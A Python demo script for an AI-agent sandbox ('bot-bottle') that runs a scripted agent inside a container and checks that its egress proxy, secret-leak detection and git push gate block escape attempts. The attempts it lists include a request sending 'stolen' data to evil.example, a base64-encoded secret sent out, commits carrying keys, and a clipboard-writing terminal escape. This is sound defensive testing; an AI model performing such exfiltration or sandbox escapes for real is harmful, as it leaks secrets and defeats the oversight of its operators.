"""``bot-bottle demo``: a real bottle, a scripted agent, and each protection shown working.

The demo's "internet" is servers it runs itself, in its own containers on its own internal
network (``allowed.example``, ``evil.example``, ``docs.example`` (which the agent asks the
operator for), a fake ``api.anthropic.com`` and a git host ``git.example``, the last two over HTTPS
from a throwaway CA); nothing leaves this machine. Its manifests and its supervise database live
in a throwaway HOME, so the user's own ~/.bot-bottle is never touched.
"""

from __future__ import annotations

import json
import re
import secrets
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from rich.console import Console
from rich.table import Table
from rich.text import Text

from bot_bottle import images, interrupts, lifecycle, proc
from bot_bottle import plan as plan_mod
from bot_bottle.backend.docker import engine
from bot_bottle.backend.docker.bottle import DockerBottle
from bot_bottle.backend.docker.launch import DockerLauncher, LaunchOptions
from bot_bottle.backend.docker.names import LABEL_ID, LABEL_OWNER, LABEL_ROLE, label_args, new_id
from bot_bottle.demo import supervise as supervise_row
from bot_bottle.demo import terminal as terminal_row
from bot_bottle.demo import tls
from bot_bottle.demo.outcome import Outcome
from bot_bottle.manifest import Layout, load

HERE = Path(__file__).resolve().parent
TOKEN_VAR = "DEMO_ANTHROPIC_API_KEY"
GIT_TOKEN_VAR = "DEMO_GIT_TOKEN"
GIT_HOST = "git.example"

DEMO_BOTTLE = f"""\
---
description: The demo bottle. Only allowed.example and the (fake) Anthropic API are reachable.
env:
  DEMO_MODE: "scripted"
  DEMO_DB_PASSWORD: "${{DEMO_DB_PASSWORD}}"
egress:
  log: 2
  routes:
    - host: allowed.example
      ports: [80, 443]
git-gate:
  user: {{name: Demo Agent, email: agent@demo.invalid}}
  repos:
    demo:
      url: https://{GIT_HOST}/demo.git
      token_ref: {GIT_TOKEN_VAR}
agent_provider:
  template: claude
  auth_token: {TOKEN_VAR}
---
"""

DEMO_AGENT = """\
---
bottle: demo
description: A scripted agent that tries to get out, and the real Claude Code CLI.
color: magenta
---
You are the demo agent. Answer in one short sentence.
"""


@dataclass
class Observed:
    """What the demo saw: the scripted agent's report, Claude Code's answer, the servers' logs."""

    script: dict[str, tuple[int, str]] = field(default_factory=dict)
    evil_hits: int = 0
    claude_exit: int = -1
    claude_answer: str = ""
    api_keys_seen: list[str] = field(default_factory=list)
    agent_env_key: str = ""
    decisions: list[str] = field(default_factory=list)
    git: GitUpstream = field(default_factory=lambda: GitUpstream())
    supervise: supervise_row.SuperviseSeen = field(default_factory=supervise_row.SuperviseSeen)
    terminal: terminal_row.TerminalSeen = field(default_factory=terminal_row.TerminalSeen)


@dataclass
class GitUpstream:
    """The demo git host as seen from outside the bottle, after the scripted agent ran."""

    main: str = ""  # the commit its main branch points at
    has_secret_commit: bool = False  # does it hold the commit that carried the key?
    has_own_secret_commit: bool = False  # the one that carried the bottle's own secret?
    receive_packs: int = 0  # pushes that reached it (git-receive-pack POSTs)


class _Internet:
    """The demo's own network and upstream containers; ``close()`` removes all of it."""

    def __init__(self, labels: dict[str, str]) -> None:
        self.labels = labels
        self.network = f"bot-bottle-{labels[LABEL_ID]}-internet"
        self.containers: dict[str, str] = {}
        engine.run(["network", "create", "--internal", *label_args(labels), self.network], timeout=60)

    def start(self, alias: str, image: str, script: Path, args: list[str], files: dict[str, Path] | None = None,
              env: dict[str, str] | None = None) -> str:
        name = f"{alias.replace('.', '-')}-{self.labels[LABEL_ID]}"
        env_args = [a for k, v in (env or {}).items() for a in ("--env", f"{k}={v}")]
        self.containers[alias] = name  # before create: one interrupted half way is removed too
        engine.run(
            ["create", "--name", name, "--network", self.network, "--network-alias", alias,
             "--env", f"UPSTREAM_NAME={alias}", *env_args, "--entrypoint", "python3",
             *label_args(self.labels), image, f"/srv/{script.name}", *args],
            timeout=60,
        )
        for dst, src in {f"/srv/{script.name}": script, **(files or {})}.items():
            engine.run(["cp", str(src), f"{name}:{dst}"], timeout=60)
        engine.run(["start", name], timeout=60)
        return name

    def ip(self, alias: str) -> str:
        return engine.run(
            ["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", self.containers[alias]],
            timeout=30,
        ).stdout.strip()

    def log_lines(self, alias: str) -> list[dict]:
        out = []
        for line in engine.run(["logs", self.containers[alias]], timeout=30, check=False).stdout.splitlines():
            try:
                out.append(json.loads(line))
            except json.JSONDecodeError:
                continue
        return out

    def close(self) -> None:
        if self.containers:
            engine.run(["rm", "-f", *self.containers.values()], timeout=60, check=False)
        engine.run(["network", "rm", self.network], timeout=60, check=False)


def _parse(stdout: str) -> dict[str, tuple[int, str]]:
    results = {}
    for line in stdout.splitlines():
        parts = line.split("\t", 2)
        if len(parts) == 3 and parts[1].isdigit():
            results[parts[0]] = (int(parts[1]), parts[2].strip())
    return results


def evaluate(results: dict[str, tuple[int, str]], evil_hits: int) -> list[Outcome]:
    """Turn the scripted agent's report and the attacker server's log into verdicts."""

    def get(name: str) -> tuple[int, str]:
        return results.get(name, (-1, "(no result: the script did not run this step)"))

    out = []
    code, detail = get("allowed")
    out.append(Outcome("GET http://allowed.example/ (an allowed host)", "answers through the proxy",
                       detail, code == 0 and "hello from allowed.example" in detail))
    code, detail = get("blocked")
    out.append(Outcome("GET http://evil.example/collect?k=stolen", "403 from the proxy naming the host",
                       detail, "HTTP 403" in detail and "evil.example" in detail))
    code, detail = get("blocked-tls")
    out.append(Outcome("HTTPS to evil.example (CONNECT)", "tunnel refused by the proxy",
                       detail, code != 0 or "HTTP 403" in detail))
    code, detail = get("raw-socket")
    out.append(Outcome("raw TCP to evil.example's address, bypassing the proxy", "no route: the agent has no network",
                       detail, code != 0 and "hello from" not in detail))
    code, detail = get("dns")
    out.append(Outcome("DNS lookup of evil.example", "fails: no resolver reachable",
                       detail or f"exit code {code}", code != 0))
    code, detail = get("interfaces")
    out.append(Outcome("network interfaces inside the bottle", "loopback only",
                       detail or "none listed (gVisor keeps loopback inside its own kernel)",
                       code == 0 and set(detail.split()) <= {"lo"}))
    code, detail = get("whoami")
    out.append(Outcome("the agent's user", "node (not root)", detail, detail == "node"))
    code, detail = get("dlp-token")
    out.append(Outcome("POST a cloud-key-shaped value to allowed.example", "403 from DLP naming the detector",
                       detail, "'dlp'" in detail and "aws-access-key-id" in detail))
    code, detail = get("dlp-secret")
    out.append(Outcome("send the bottle's own secret, base64-encoded, to allowed.example",
                       "403 from DLP naming the secret (never its value)",
                       detail, "'dlp'" in detail and "DEMO_DB_PASSWORD" in detail))
    out.append(Outcome("requests that reached evil.example", "none", str(evil_hits), evil_hits == 0))
    return out


def evaluate_git(results: dict[str, tuple[int, str]], upstream: GitUpstream) -> list[Outcome]:
    """The git-gate rows: a push carrying a cloud key is refused with its reason, a clean one lands."""

    def get(name: str) -> tuple[int, str]:
        return results.get(name, (-1, "(no result: the script did not run this step)"))

    out = []
    code, detail = get("git-clone")
    out.append(Outcome(f"git clone https://{GIT_HOST}/demo.git (its real URL)", "served by the git-gate in the sidecar",
                       detail or "cloned", code == 0))
    out.append(_rejected_push(get("git-push-secret"), get("git-secret-commit")[1], upstream.has_secret_commit,
                              "git push of a commit carrying a cloud key", "aws", "AKIADEMO"))
    out.append(_rejected_push(get("git-push-own-secret"), get("git-own-secret-commit")[1],
                              upstream.has_own_secret_commit,
                              "git push of a commit carrying the bottle's own secret (DEMO_DB_PASSWORD)",
                              "known-secret:DEMO_DB_PASSWORD", "db_password = demo-"))
    code, detail = get("git-push-clean")
    _, clean_commit = get("git-clean-commit")
    landed = bool(clean_commit) and upstream.main == clean_commit
    out.append(Outcome("git push of a clean commit", f"accepted, and {GIT_HOST}'s main is that commit",
                       f"exit {code}; {GIT_HOST} main = {upstream.main[:12] or '(unknown)'}, pushed {clean_commit[:12] or '(none)'}; "
                       f"pushes that reached {GIT_HOST}: {upstream.receive_packs}",
                       code == 0 and landed and upstream.receive_packs == 1))
    return out


def _rejected_push(result: tuple[int, str], commit: str, reached: bool, attempt: str, detector: str,
                   leak: str) -> Outcome:
    """A push the gate must refuse: it failed, named the commit, file, line and ``detector``
    (never the value, of which ``leak`` is a telling part), and the upstream never got ``commit``."""
    code, detail = result
    reason = re.search(r"commit ([0-9a-f]{7,40}): (file \S+ line \d+): detector (\S+)", detail)
    if reason is not None:
        named = commit.startswith(reason.group(1)) and reason.group(3).startswith(detector)
        observed = f"rejected: commit {reason.group(1)}, {reason.group(2)}, detector {reason.group(3)}"
    else:
        named, observed = False, detail
    kept_out = not reached and bool(re.fullmatch(r"[0-9a-f]{40}", commit))
    observed += "; the upstream never got the commit" if kept_out else "; the upstream HAS the commit"
    return Outcome(attempt, "rejected before the upstream: commit, file, line, detector",
                   observed, code != 0 and named and kept_out and leak not in detail)


def evaluate_claude(seen: Observed, real_token: str) -> Outcome:
    """The real Claude Code CLI answered, the API got the real key, the agent held a placeholder."""
    got_real = bool(seen.api_keys_seen) and all(key == real_token for key in seen.api_keys_seen)
    answered = seen.claude_exit == 0 and "Hello from the fake model" in seen.claude_answer
    placeholder_only = seen.agent_env_key == lifecycle.PLACEHOLDER
    parts = [
        f"answer: {seen.claude_answer.strip()[:60] or '(none)'}",
        "API received the real key" if got_real else f"API received {'no key' if not seen.api_keys_seen else 'another key'}",
        "agent's env holds only the placeholder" if placeholder_only else "agent's env holds something else",
    ]
    return Outcome(
        "the real Claude Code CLI asks api.anthropic.com (the demo's fake)",
        "answers; the proxy swaps the placeholder for the real key",
        "; ".join(parts),
        answered and got_real and placeholder_only,
    )


def _git_upstream(internet: _Internet, secret_commit: str, own_secret_commit: str) -> GitUpstream:
    """Look at the demo git host from outside the bottle: its refs, its objects, its request log."""
    name = internet.containers[GIT_HOST]
    repo = "/srv/git/demo.git"
    main = engine.run(["exec", name, "git", "--git-dir", repo, "rev-parse", "-q", "--verify", "refs/heads/main"],
                      timeout=30, check=False).stdout.strip()

    def holds(commit: str) -> bool:
        return bool(re.fullmatch(r"[0-9a-f]{40}", commit)) and engine.run(
            ["exec", name, "git", "--git-dir", repo, "cat-file", "-e", f"{commit}^{{commit}}"],
            timeout=30, check=False).returncode == 0

    pushes = sum(1 for r in internet.log_lines(GIT_HOST)
                 if r.get("method") == "POST" and r.get("service") == "git-receive-pack")
    return GitUpstream(main=main, has_secret_commit=holds(secret_commit),
                       has_own_secret_commit=holds(own_secret_commit), receive_packs=pushes)


def run(console: Console, *, progress: Callable[[str], None] | None = None) -> int:
    say = progress or (lambda message: console.print(Text(f"• {message}", style="dim")))
    labels = {LABEL_ID: f"demo{new_id()}", LABEL_OWNER: proc.identity(), LABEL_ROLE: "demo"}
    real_token = "sk-ant-api03-demo-" + secrets.token_urlsafe(24)
    db_password = "demo-" + secrets.token_urlsafe(18)
    seen = Observed()
    with tempfile.TemporaryDirectory(prefix="bot-bottle-demo-") as tmp:
        home = Path(tmp)
        (home / ".bot-bottle" / "bottles").mkdir(parents=True)
        (home / ".bot-bottle" / "agents").mkdir(parents=True)
        (home / ".bot-bottle" / "bottles" / "demo.md").write_text(DEMO_BOTTLE)
        (home / ".bot-bottle" / "agents" / "demo-agent.md").write_text(DEMO_AGENT)
        layout = Layout(home=home, cwd=home)
        state_root = home / ".bot-bottle" / "state"
        manifest = load("demo-agent", layout)
        from bot_bottle.cli.common import docker_runtime

        runtime, note = docker_runtime()
        plan = plan_mod.resolve(manifest, backend="docker", runtime=runtime, runtime_note=note, label="demo", environ={})
        say(f"agent runtime: {runtime} ({note})")
        say("building images when missing (the first run takes a few minutes)")
        sidecar_ref = images.ensure_image(images.sidecar_image())
        images.ensure_image(images.agent_image(plan.template, plan.agent_dockerfile))
        ca = tls.make_ca(home)
        cert, key = ca.issue(home, "api", ["api.anthropic.com"])
        git_cert, git_key = ca.issue(home, "git", [GIT_HOST])
        git_token = "demo-git-" + secrets.token_urlsafe(18)
        token_file = home / "git.token"
        token_file.write_text(git_token + "\n")

        say(f"starting the demo's own internet: allowed.example, evil.example, {supervise_row.ASKED_HOST}, "
            f"api.anthropic.com (fake), {GIT_HOST}")
        internet = _Internet(labels)
        try:
            internet.start("allowed.example", sidecar_ref, HERE / "upstream.py", ["80"])
            internet.start("evil.example", sidecar_ref, HERE / "upstream.py", ["80"])
            internet.start(supervise_row.ASKED_HOST, sidecar_ref, HERE / "upstream.py", ["80"])
            internet.start("api.anthropic.com", sidecar_ref, HERE / "fake_api.py", ["443"],
                           files={"/srv/server.crt": cert, "/srv/server.key": key},
                           env={"FAKE_CERT": "/srv/server.crt", "FAKE_KEY": "/srv/server.key"})
            internet.start(GIT_HOST, sidecar_ref, HERE / "git_server.py", ["443"],
                           files={"/srv/server.crt": git_cert, "/srv/server.key": git_key, "/srv/token": token_file},
                           env={"FAKE_CERT": "/srv/server.crt", "FAKE_KEY": "/srv/server.key"})
            evil_ip = internet.ip("evil.example")

            def scripted(bottle: DockerBottle, launcher: DockerLauncher) -> None:
                say(f"bottle {launcher.names.id} is up; running the scripted agent inside it")
                bottle.cp_in(HERE / "agent.sh", "/home/node/demo-agent.sh")
                # Run as the agent runs: with its whole env (the secret values come from its launcher).
                seen.script.update(_parse(bottle.run(["sh", "/home/node/demo-agent.sh", evil_ip]).stdout))
                seen.supervise = supervise_row.ask_and_approve(bottle, launcher.names.id, layout, state_root, say)
                say("the agent prints a clipboard-writing escape sequence on its terminal")
                seen.terminal = terminal_row.print_on_a_terminal(bottle)
                say("asking the real Claude Code CLI a question (its API is the demo's fake)")
                answer = bottle.run(["timeout", "120", "claude", "-p", "Say hello."])
                seen.claude_exit, seen.claude_answer = answer.returncode, answer.stdout or answer.stderr
                seen.agent_env_key = bottle.run(["printenv", "ANTHROPIC_API_KEY"]).stdout.strip()
                logs = engine.run(["logs", launcher.names.sidecar_container], timeout=30, check=False)
                seen.decisions.extend(line for line in logs.stdout.splitlines() if '"decision"' in line)

            say("launching the bottle: sidecar proxy, then the agent with no network")
            lifecycle.run_bottle(
                manifest,
                plan,
                state_root=state_root,
                environ={TOKEN_VAR: real_token, "DEMO_DB_PASSWORD": db_password, GIT_TOKEN_VAR: git_token},
                prompt_fn=None,
                tty=False,
                options=LaunchOptions(extra_networks=(internet.network,), internal_network=True,
                                      upstream_ca_pem=ca.cert.read_text()),
                progress=say,
                on_launched=scripted,
                command=["true"],
            )
            seen.evil_hits = len(internet.log_lines("evil.example"))
            seen.git = _git_upstream(internet, seen.script.get("git-secret-commit", (0, ""))[1],
                                     seen.script.get("git-own-secret-commit", (0, ""))[1])
            for record in internet.log_lines("api.anthropic.com"):
                if record.get("path", "").startswith("/v1/messages"):
                    sent = record.get("x-api-key") or (record.get("authorization") or "").removeprefix("Bearer ")
                    seen.api_keys_seen.append(sent or "")
        finally:
            with interrupts.deferred():  # its containers and network must not be left behind
                internet.close()

    outcomes = (evaluate(seen.script, seen.evil_hits) + evaluate_git(seen.script, seen.git)
                + [supervise_row.evaluate(seen.supervise), terminal_row.evaluate(seen.terminal),
                   evaluate_claude(seen, real_token)])
    table = Table(title="What the bottle did", title_justify="left", show_lines=True)
    table.add_column("the agent tried")
    table.add_column("expected")
    table.add_column("observed", overflow="fold")
    table.add_column("")
    for o in outcomes:
        table.add_row(o.attempt, o.expected, o.observed,
                      Text("held", style="green") if o.held else Text("FAILED", style="bold red"))
    console.print(table)
    if seen.decisions:
        console.print(Text("last proxy decisions (JSON lines from the sidecar):", style="bold"))
        for line in seen.decisions[-8:]:
            console.print(Text(line, style="dim"))
    ok = all(o.held for o in outcomes)
    console.print(Text("every protection held" if ok else "a protection FAILED", style="bold green" if ok else "bold red"))
    return 0 if ok else 1
